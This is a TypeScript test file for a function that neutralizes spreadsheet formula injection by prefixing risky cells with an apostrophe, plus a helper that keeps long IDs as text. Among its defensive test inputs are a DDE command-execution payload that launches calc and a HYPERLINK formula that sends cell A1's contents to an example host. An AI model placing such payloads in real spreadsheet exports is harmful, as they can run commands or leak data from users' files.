import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { keepIdText, neutralizeFormula } from '../../src/command/neutralize-formula.ts'

describe('neutralizeFormula', () => {
  // The characters that OWASP names, and what spreadsheets skip in front of them.
  it.each([
    '=1+1',
    '+1',
    '-1',
    '@SUM(A1)',
    '＝1+1',
    '＋1',
    '－1',
    '＠A',
    ' =1+1',
    '\u00a0=1',
    '\u3000=1',
    '\ufeff=1',
    '\u200b=1',
    '\t\r\n=1',
    '\0=1',
    '\tplain',
    '\rplain',
    '\nplain',
    '\0plain',
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://example.com/?"&A1,"x")'
  ])('puts an apostrophe before %j', (text) => {
    expect(neutralizeFormula(text)).toBe(`'${text}`)
  })

  it.each(['', '测试支付4', 'a=b', "it's", '1-1', '（=）', ' plain', "'=1"])('leaves %j alone', (text) => {
    expect(neutralizeFormula(text)).toBe(text)
  })

  it('lets nothing begin with a sign of a formula', () => {
    const anyText = fc.string({ unit: fc.constantFrom(...'=+-@＝－a1 \t\r\n\0\u00a0中') })
    fc.assert(
      fc.property(anyText, (text) => {
        expect(neutralizeFormula(text)).not.toMatch(/^[\s\0]*[=+\-@＝－]|^[\t\r\n\0]/)
        expect(neutralizeFormula(text).endsWith(text)).toBe(true)
      })
    )
  })
})

describe('keepIdText', () => {
  it.each(['4200000925202101284997714292', '123456789012', '007', '4E27', '12e5', '12-11', '1/2', '10:30'])(
    'puts a tab behind %j',
    (text) => {
      expect(keepIdText(text)).toBe(`${text}\t`)
    }
  )

  it.each(['', '0', '12345678901', 'S20210128170702357723', '1.5', '0.00', '2021-01-28 17:07:11', 'A-1', '1-'])(
    'leaves %j alone',
    (text) => {
      expect(keepIdText(text)).toBe(text)
    }
  )

  it('neutralises all other texts', () => {
    expect(keepIdText('=1')).toBe("'=1")
  })
})
